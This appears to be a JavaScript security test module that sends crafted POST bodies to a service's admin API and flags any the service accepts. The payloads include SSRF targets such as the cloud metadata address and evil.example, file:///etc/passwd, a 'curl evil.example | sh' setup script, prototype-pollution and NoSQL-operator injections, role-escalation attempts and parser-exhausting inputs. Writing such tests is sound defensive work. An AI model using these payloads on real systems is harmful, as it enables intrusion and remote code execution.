// Bodies that ask for more than the sender may have, or mean two things.

import { JSON_TYPE, OURS } from "../rig.js";

const issuer = (/** @type {unknown} */ url) => ({
  secrets: { x: { issuer: { url, headers: { a: "b" }, refresh: "1h" } } },
});
const DESTINATIONS = [
  "http://169.254.169.254/latest/meta-data/",
  "http://[fd00:ec2::254]/",
  "http://127.0.0.1:8780/",
  "http://localhost/",
  "http://2130706433/",
  "http://0177.0.0.1/",
  "http://0x7f.1/",
  "https://evil.example/",
  "https://api.example.net.evil.example/",
  "https://api.example.net@evil.example/",
  "https://evil.example#api.example.net",
  "https://evil.example\\@api.example.net/",
  "https://api.example.net\\@evil.example/",
  "https://api.example.net:22/",
  "http://api.example.net/",
  "file:///etc/passwd",
  "ftp://api.example.net/",
  "javascript:alert(1)",
  "https://api.example.net\r\nhost: evil.example/",
  "//evil.example/",
];

/** @type {[who: string, path: string, body: string][]} */
const BODIES = [
  ...DESTINATIONS.map(
    (url) => /** @type {[string, string, string]} */ (["admins", "/hosts", JSON.stringify(issuer(url))]),
  ),
  ...DESTINATIONS.map(
    (target) =>
      /** @type {[string, string, string]} */ ([
        "admins",
        "/http-proxies",
        JSON.stringify({ name: "x", target, headers: { a: "b" } }),
      ]),
  ),
  ["admins", "/hosts", '{"secrets":{"x":{"value":"12345678","host":"evil.example"}}}'],
  ["admins", "/hosts", '{"secrets":{"x":{"value":"12345678","host":"127.0.0.1:22"}}}'],
  [
    "operators",
    "/hosts",
    '{"secrets":{"x":{"issuer":{"url":"https://api.example.net","headers":{"a":"b"},"refresh":"1h"}}}}',
  ],
  ["operators", "/hosts", '{"expires_at":null}'],
  ["operators", "/templates", '{"setup_script":"curl evil.example | sh"}'],
  ["operators", "/http-proxies", '{"name":"x","target":"https://api.example.net","headers":{"a":"b"}}'],
  ["operators", "/service-accounts", '{"name":"eve"}'],
  ["viewers", "/hosts", "{}"],
  ["viewers", "/hosts/01a2059a-77d5-74aa-8bfe-4aabfea3fa70/renew", "{}"],
  ...[
    '{"service_account":"admin"}',
    '{"private_key":"x"}',
    '{"status":"active"}',
    '{"id":"01a2059a-77d5-74aa-8bfe-4aabfea3fa70"}',
    '{"__proto__":{"expires_at":null}}',
    '{"constructor":{"prototype":{"role":"admin"}}}',
    '{"secrets.*.issuer.url":"http://169.254.169.254/"}',
    '{"expires_at:null":null}',
    '{"Image":"x"}',
    '{"imag\\u0065 ":"x"}',
    '{"image":{"$ne":null}}',
    '{"image":["x"]}',
    '{"env":[["A","B"]]}',
    '{"env":{"A":{"b":"c"}}}',
    '{"env":{"A":1}}',
    '{"env":{"A":"x\\u0000y"}}',
    '{"disk_gb":1e400}',
    '{"disk_gb":-1}',
    '{"disk_gb":true}',
    '{"disk_gb":"40"}',
    '{"expires_at":0}',
    '{"expires_at":"tomorrow"}',
    '{"secrets":{"x":{"value":"12345678","issuer":{"url":"https://api.example.net","headers":{"a":"b"},"refresh":"1h"}}}}',
    `{"env":${'{"a":'.repeat(3000)}1${"}".repeat(3000)}}`,
    `${"[".repeat(100_000)}`,
    `{"image":"${"x".repeat(300_000)}"}`,
    "[]",
    '"{}"',
    "7",
    "{",
    "{}{}",
    "",
    "\ufeff{",
    "image=x",
  ].map((body) => /** @type {[string, string, string]} */ (["operators", "/hosts", body === "" ? " " : body])),
];

/** @type {import("./attacks.js").Attack[]} */
export const fields = BODIES.map(([who, path, body]) => ({
  name: `${path} by ${who}: ${body.slice(0, 70)}`,
  async run(target) {
    // Somebody new each time, so that no limit does the refusing.
    const signedIn = await target.signedIn(`${crypto.randomUUID()}@example.net`, who);
    const got = await target.send(`/api${path}`, {
      method: "POST",
      headers: { ...OURS, ...JSON_TYPE, ...signedIn },
      body,
    });
    return got.status < 400 || got.status === 429 ? `responded ${got.status}` : undefined;
  },
}));
